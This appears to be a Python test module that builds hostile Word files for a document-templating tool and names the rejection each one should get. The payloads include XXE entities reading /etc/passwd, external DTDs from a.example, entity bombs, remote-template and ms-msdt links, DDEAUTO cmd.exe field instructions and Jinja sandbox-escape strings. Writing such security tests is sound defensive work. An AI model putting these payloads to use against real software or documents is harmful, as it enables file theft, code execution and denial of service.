# ruff: noqa: E501, ISC004, PLW0108 a case a line, however long
"""Word files that are wrong, or too much, as XML; and Word files that hold or fetch what a letter cannot have."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.packs.hostile.cases import (
    HARMLESS,
    Hostile,
    right_word_file,
    with_docx,
    with_part,
    with_xml,
)
from tests.packs.sample_pack import PARAGRAPHS, word_file
from tests.rendering.word_templates import rewritten, with_body, with_relation

BODY, SETTINGS, RELATIONS, TYPES = (
    "word/document.xml",
    "word/settings.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
)
BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]>"
)
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
DECLARED = '<?xml version="1.0"?>'


def doctyped(doctype: str, encoding: str = "utf-8", use: str = "") -> Callable[[], bytes]:
    """Return the right Word file with a DOCTYPE before its body, and perhaps an entity of it in a paragraph."""

    def made() -> bytes:
        docx = right_word_file()
        text = _part(docx, BODY).partition("?>")[2]
        paragraph = f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>" if use else ""
        declared = f'<?xml version="1.0" encoding="{encoding}"?>'
        whole = declared + doctype + text.replace("<w:body>", f"<w:body>{paragraph}", 1)
        return rewritten(docx, {BODY: whole.encode(encoding)})

    return made


def _part(docx: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return archive.read(name).decode()


def xml_cases() -> Iterator[Hostile]:
    """Yield DOCTYPEs, floods, what is not well-formed, and wrong encodings."""
    outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield with_docx("xml: DOCTYPE", doctyped("<!DOCTYPE document>"), "doctype")
    yield with_docx("xml: DOCTYPE in UTF-16", doctyped("<!DOCTYPE document>", "utf-16"), "doctype")
    yield with_docx("xml: DOCTYPE from elsewhere", doctyped('<!DOCTYPE x SYSTEM "http://a.example/x.dtd">'), "doctype")
    yield with_docx("xml: entity bomb", doctyped(BOMB, use="&m;"), "not-well-formed")
    yield with_docx("xml: entity bomb in UTF-16", doctyped(BOMB, "utf-16", use="&m;"), "not-well-formed")
    long_entity = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    yield with_docx("xml: one long entity, often", doctyped(long_entity, use="&a;" * 5000), "not-well-formed")
    yield with_docx("xml: entity from a file", doctyped(outside, use="&e;"), "doctype")
    yield with_docx("xml: entity from a file in UTF-16", doctyped(outside, "utf-16", use="&e;"), "doctype")
    parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://a.example/evil.dtd"> %p;]>'
    yield with_docx("xml: parameter entity", doctyped(parameter), "doctype")
    defaults = '<!DOCTYPE x [<!ATTLIST w:t xml:space CDATA "preserve">]>'
    yield with_docx("xml: attributes by DOCTYPE", doctyped(defaults), "doctype")
    for part in (SETTINGS, RELATIONS, TYPES, "docProps/core.xml", "word/styles.xml"):
        spoilt = _after_declaration("<!DOCTYPE x [<!ENTITY a 'b'>]>")
        yield with_part(f"xml: DOCTYPE in {part}", part, spoilt, "doctype")
    instruction = "<?mso-application progid='Word.Document'?>"
    yield with_part("xml: instruction before", BODY, _after_declaration(instruction), "processing-instruction")
    yield with_part("xml: instruction after", BODY, lambda text: text + instruction, "processing-instruction")
    yield with_xml("xml: instruction within", f"<w:p>{instruction}</w:p>", "processing-instruction")
    yield with_part("xml: style sheet", SETTINGS, _after_declaration("<?xml-stylesheet?>"), "processing-instruction")
    yield with_xml("xml: 1,000 deep", "<w:sdt>" * 1000 + "</w:sdt>" * 1000, "not-well-formed")
    yield with_xml("xml: 100,000 deep", "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000, "too-large")
    many = " ".join(f'a{n}="{n}"' for n in range(100_000))
    yield with_xml("xml: 100,000 attributes", f"<w:p {many}/>", "too-large")
    yield with_xml("xml: 300,000 paragraphs", "<w:p/>" * 300_000, "too-large")
    yield with_xml("xml: 200,000 names for one space", "<w:p xmlns:a='b'/>" * 200_000, "too-large")
    yield with_xml("xml: 6 MiB of words", f"<w:p><w:r><w:t>{'word ' * 1_250_000}</w:t></w:r></w:p>", "too-large")
    yield with_part("xml: cut off", BODY, lambda text: text[: len(text) // 2], "not-well-formed")
    yield with_part("xml: nothing", BODY, b"", "not-well-formed")
    yield with_part("xml: no XML", BODY, b"MZ\x90\0" * 100, "not-well-formed")
    yield with_part("xml: NUL in a text", BODY, lambda text: text.replace("<w:body>", "<w:body>\0"), "not-well-formed")
    yield with_part(
        "xml: control by number", BODY, _in_body("<w:p><w:r><w:t>&#1;</w:t></w:r></w:p>"), "not-well-formed"
    )
    yield with_part(
        "xml: says UTF-8, is not", BODY, b"<?xml version='1.0' encoding='UTF-8'?><a>\xff</a>", "not-well-formed"
    )
    yield with_part("xml: unknown encoding", BODY, b"<?xml version='1.0' encoding='x-none'?><a/>", "not-well-formed")
    yield with_part("xml: UTF-7", BODY, b"<?xml version='1.0' encoding='UTF-7'?>+ADw-a/+AD4-", "not-a-word-file")
    yield with_part("xml: another root", BODY, b"<a/>", "not-a-word-file")
    yield with_part("xml: two roots", BODY, lambda text: text + text.partition("?>")[2], "not-well-formed")
    yield with_part("xml: prefix of nothing", BODY, _in_body("<zz:p/>"), "not-well-formed")
    yield with_xml("xml: an attribute twice", '<w:p w:rsidR="1" w:rsidR="2"/>', "not-well-formed")


def _after_declaration(xml: str) -> Callable[[str], str]:
    return lambda text: text.replace("?>", "?>" + xml, 1)


def _in_body(xml: str) -> Callable[[str], str]:
    return lambda text: text.replace("<w:body>", f"<w:body>{xml}", 1)


_EXTERNAL = (
    ("attachedTemplate", "file:///C:/evil.dotm"),
    ("attachedTemplate", "https://a.example/evil.dotm"),
    ("image", "file:///etc/passwd"),
    ("image", r"\\a.example\share\x.png"),
    ("image", "https://a.example/x.png"),
    ("oleObject", "file:///C:/x.xls"),
    ("oleObject", "mhtml:https://a.example/x!https://a.example/y"),
    ("subDocument", "https://a.example/x.docx"),
    ("frame", "https://a.example/x.htm"),
    ("mailMergeSource", "file:///C:/members.mdb"),
    ("mailMergeHeaderSource", "file:///C:/members.mdb"),
    ("video", "https://a.example/x.mp4"),
    ("audio", "https://a.example/x.mp3"),
    ("aFChunk", "https://a.example/x.htm"),
    ("transform", "https://a.example/x.xsl"),
    ("externalLink", "https://a.example/x.xlsx"),
    ("settings", "https://a.example/settings.xml"),
    ("header", "https://a.example/header.xml"),
    ("styles", "https://a.example/styles.xml"),
    ("comments", "https://a.example/comments.xml"),
)
_LINKS = (
    "http://a.example/",
    "file:///C:/Windows/win.ini",
    "file://a.example/share/x",
    r"\\a.example\share",
    "javascript:alert(1)",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x",
    "ftp://a.example/x",
    "https://a.example/{{ subject }}",
    "HTTPS:a.example",
)
_PARTS = (
    "vbaProject", "wordVbaData", "oleObject", "package", "control", "activeXControlBinary", "aFChunk", "subDocument",
    "chart", "diagramData", "diagramLayout", "printerSettings", "font", "webextension", "webextensiontaskpanes",
    "extensibility", "attachedToolbars", "keyMapCustomizations", "mailMergeRecipientData",
    "recipientData", "htmlPubSaveAs", "xmlSignature",
)  # fmt: skip
_INSTRUCTIONS = (
    ("INCLUDEPICTURE split", ("INCLUDE", 'PICTURE "https://a.example/x.png"')),
    ("INCLUDETEXT", ('INCLUDETEXT "C:\\\\secret.docx"',)),
    ("DDE letter by letter", tuple("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    ("DDE", ('DDE Excel "Sheet1" R1C1',)),
    ("LINK", ("LINK Excel.Sheet.8 C:\\\\x.xls",)),
    ("MERGEFIELD", ("MERGE", "FIELD name")),
    ("IMPORT", ("IMPORT x.png",)),
    ("EMBED", ("EMBED Package",)),
    ("DATABASE", ('DATABASE \\d "C:\\\\x.mdb"',)),
    ("QUOTE", ("QUOTE 65 66",)),
    ("MACROBUTTON", ("MACROBUTTON AutoOpen x",)),
    ("GOTOBUTTON", ("GOTOBUTTON 1 x",)),
    ("HYPERLINK", ('HYPERLINK "file:///C:/x.exe"',)),
    ("IF", ('IF 1 = 1 "a" "b"',)),
    ("formula", ("= 1 + 1",)),
    ("FILLIN", ("FILLIN x",)),
    ("ASK", ("ASK a b",)),
    ("USERNAME", ("USERNAME",)),
    ("FILENAME", ("FILENAME \\p",)),
    ("DOCPROPERTY", ("DOCPROPERTY Company",)),
    ("RD", ('RD "C:\\\\x.docx"',)),
    ("lower case", ("includetext x",)),
    ("quoted name", ('"INCLUDETEXT" x',)),
    ("with a tag", ("PAGE {{ subject }}",)),
    ("nothing", ("",)),
)
_ELEMENTS = (
    ("altChunk", '<w:altChunk r:id="rId1"/>'),
    ("subDoc", '<w:subDoc r:id="rId1"/>'),
    ("object", "<w:p><w:r><w:object/></w:r></w:p>"),
    (
        "OLEObject",
        '<w:p><w:r><w:pict><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:pict></w:r></w:p>',
    ),
    ("control", '<w:p><w:r><w:control w:name="x" r:id="rId1"/></w:r></w:p>'),
    ("movie", "<w:p><w:r><w:movie/></w:r></w:p>"),
    ("VML href", '<w:p><w:r><w:pict><v:shape href="https://a.example"/></w:pict></w:r></w:p>'),
    ("VML src", '<w:p><w:r><w:pict><v:imagedata src="file:///x.png"/></w:pict></w:r></w:p>'),
    (
        "VML o:href",
        '<w:p><w:r><w:pict><v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' o:href="https://a.example/x.png"/></w:pict></w:r></w:p>',
    ),
    (
        "VML o:althref",
        '<w:p><w:r><w:pict><v:fill xmlns:o="urn:schemas-microsoft-com:office:office" o:althref="x"/></w:pict></w:r></w:p>',
    ),
    (
        "SVG",
        '<w:p><w:r><w:drawing><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
        ' r:embed="rId1"/></w:drawing></w:r></w:p>',
    ),
    (
        "object in a fallback",
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        "<mc:Choice Requires='wps'/><mc:Fallback><w:object/></mc:Fallback></mc:AlternateContent></w:r></w:p>",
    ),
)
_SETTINGS = ("mailMerge", "linkStyles", "saveThroughXslt", "embedTrueTypeFonts")


def field(*pieces: str) -> str:
    """Return a paragraph with a field whose instruction is in so many pieces."""
    return FIELD.format(
        "".join(f'<w:r><w:instrText xml:space="preserve">{_escaped(each)}</w:instrText></w:r>' for each in pieces)
    )


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def outside_cases() -> Iterator[Hostile]:
    """Yield Word files that fetch, embed or run something."""
    for kind, target in _EXTERNAL:
        yield with_docx(f"outside: {kind} {target}", _related(kind, target, external=True), "external")
    for target in _LINKS:
        yield with_docx(f"outside: link {target}", _related("hyperlink", target, external=True), "link")
    for kind in _PARTS:
        yield with_docx(f"outside: part {kind}", _related(kind, "styles.xml"), "not-allowed-part")
    yield with_docx("outside: part glossaryDocument", _related("glossaryDocument", "styles.xml"), HARMLESS)
    for name, pieces in _INSTRUCTIONS:
        yield with_xml(f"field: {name}", field(*pieces), "field")
    for name, xml in _ELEMENTS:
        yield with_xml(f"outside: {name}", xml, "not-allowed-element")
    for name in _SETTINGS:
        yield with_part(f"outside: setting {name}", SETTINGS, _setting(name), "not-allowed-element")
    yield with_part("outside: setting embedSystemFonts", SETTINGS, _setting("embedSystemFonts"), HARMLESS)
    yield with_xml("field: simple", '<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>', "field")
    yield with_xml(
        "field: simple in a simple one",
        '<w:p><w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="DDE x"/></w:fldSimple></w:p>',
        "field",
    )
    yield with_xml(
        "field: in another", FIELD.format(f"<w:r><w:instrText>REF </w:instrText></w:r>{field('PAGE')[5:-6]}"), "field"
    )
    unended = field("DDEAUTO cmd").replace('<w:r><w:fldChar w:fldCharType="end"/></w:r>', "")
    yield with_xml("field: not ended", unended, "field")
    yield with_xml(
        "field: only an instruction", "<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>", "field"
    )
    yield with_xml(
        "field: over two paragraphs",
        field("DDEAUTO", " cmd").replace("</w:instrText></w:r><w:r>", "</w:instrText></w:r></w:p><w:p><w:r>", 1),
        "field",
    )
    split = field("PAGE").replace(
        "</w:instrText></w:r>", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    )
    yield with_xml(
        "field: in the result of another",
        split.replace('"separate"/></w:r>', f'"separate"/></w:r>{field("DDE x y")[5:-6]}'),
        "field",
    )
    yield with_docx(
        "outside: frames",
        lambda: rewritten(right_word_file(), {"word/webSettings.xml": _FRAMES}),
        "not-allowed-element",
    )
    yield from _odd_parts()
    yield from _tracked()


_FRAMES = b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset/></w:webSettings>'


def _odd_parts() -> Iterator[Hostile]:
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield with_part("outside: macros by content type", TYPES, lambda text: text.replace(main, macros), "macro")
    yield with_part("outside: macro part nobody names", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0", "not-allowed-part")
    yield with_part(
        "outside: OLE part nobody names", "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", "not-allowed-part"
    )
    yield with_part("outside: ActiveX nobody names", "word/activeX/activeX1.xml", b"<a/>", "not-allowed-part")
    yield with_part("outside: ribbon nobody names", "customUI/customUI.xml", b"<a/>", "not-allowed-part")
    yield with_part("outside: program as a part", "word/run.exe", b"MZ", "not-allowed-part")
    header = "word/header1.bin"
    yield with_docx("outside: header of another ending", lambda: _hidden_header(header), "not-allowed-part")
    yield with_docx("outside: header in capitals", lambda: _hidden_header("word/HEADER1.XML"), "field")
    yield with_docx("outside: relations in capitals", _loud_relations, "part-name")
    yield with_docx(
        "outside: picture that is SVG", lambda: _pictured("word/media/a.svg", b"<svg/>"), "not-allowed-part"
    )
    yield with_docx("outside: picture that is no picture", lambda: _pictured("word/media/a.png", b"<svg/>"), HARMLESS)
    yield with_docx(
        "outside: picture of too many points", lambda: _pictured("word/media/a.png", _vast_png()), "picture-too-large"
    )
    yield with_docx("outside: relation out of the file", _related("image", "../../../etc/passwd"), "missing-part")
    yield with_docx("outside: relation by a tag", _related("image", "media/{{ subject }}.png"), "missing-part")
    yield with_docx("outside: relation in lower case", lambda: _lower_case(), "missing-part")
    yield with_docx(
        "outside: own kind of relation", lambda: _own_relation("http://a.example/styles"), "not-allowed-part"
    )


def _tracked() -> Iterator[Hostile]:
    for name in ("ins", "del", "moveFrom", "moveTo"):
        xml = f'<w:p><w:{name} w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:{name}></w:p>'
        yield with_xml(f"tracked: {name}", xml, "tracked-changes")
    yield with_xml(
        "tracked: row",
        "<w:tbl><w:tr><w:trPr><w:ins w:id='1' w:author='A'/></w:trPr><w:tc><w:p/></w:tc></w:tr></w:tbl>",
        "tracked-changes",
    )
    yield with_xml("tag: in an attribute", '<w:p w:rsidR="{{ subject }}"/>', HARMLESS)
    yield with_xml(
        "tag: in a description", '<w:p><w:bookmarkStart w:id="1" w:name="{{ subject }}"/></w:p>', "misplaced-tag"
    )
    yield with_xml(
        "tag: in deleted text", "<w:p><w:r><w:delText>{{ subject }}</w:delText></w:r></w:p>", "misplaced-tag"
    )


def _related(kind: str, target: str, *, external: bool = False) -> Callable[[], bytes]:
    return lambda: with_relation(right_word_file(), kind, target, external=external)


def _setting(name: str) -> Callable[[str], str]:
    return lambda text: text.replace("</w:settings>", f"<w:{name}/></w:settings>")


def _lower_case() -> bytes:
    docx = with_relation(right_word_file(), "image", "https://a.example/x.png", external=True)
    return rewritten(docx, {RELATIONS: lambda text: text.replace('"External"/></R', '"external"/></R')})


def _own_relation(kind: str) -> bytes:
    element = f'<Relationship Id="rIdX" Type="{kind}" Target="styles.xml"/></Relationships>'
    return rewritten(right_word_file(), {RELATIONS: lambda text: text.replace("</Relationships>", element)})


def _hidden_header(name: str) -> bytes:
    docx = with_relation(right_word_file(), "header", name.removeprefix("word/"))
    override = f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>'
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    header = f'<w:hdr xmlns:w="{space}">{field("DDEAUTO cmd")}</w:hdr>'
    return rewritten(docx, {TYPES: lambda text: text.replace("</Types>", override), name: header.encode()})


def _loud_relations() -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="{base}/attachedTemplate" Target="https://a.example/x.dotm" TargetMode="External"/></Relationships>'
    return rewritten(right_word_file(), {"word/_rels/settings.xml.RELS": rels.encode()})


def _pictured(name: str, data: bytes) -> bytes:
    docx = with_relation(right_word_file(), "image", name.removeprefix("word/"))
    return rewritten(docx, {name: data})


def _vast_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def property_cases() -> Iterator[Hostile]:
    """Yield templates in the title of the document, which is filled too."""
    for name, title, expected in (
        ("escape", "{{ ''.__class__ }}", "name"),
        ("half a tag", "{{ subject", "unclosed-tag"),
        ("call", "{{ lipsum() }}", "not-allowed"),
        ("deep", "{{ " + "(" * 100 + "subject" + ")" * 100 + " }}", "too-deep"),
    ):
        yield with_docx(f"title: {name}", _titled(title), expected)


def _titled(title: str) -> Callable[[], bytes]:
    return lambda: rewritten(
        word_file(*PARAGRAPHS), {"docProps/core.xml": lambda text: _with_title(text, _escaped(title))}
    )


def _with_title(text: str, title: str) -> str:
    text = text.replace("<dc:title>A complaint</dc:title>", "")
    return text.replace("</cp:coreProperties>", f"<dc:title>{title}</dc:title></cp:coreProperties>")


__all__ = ["field", "outside_cases", "property_cases", "with_body", "xml_cases"]
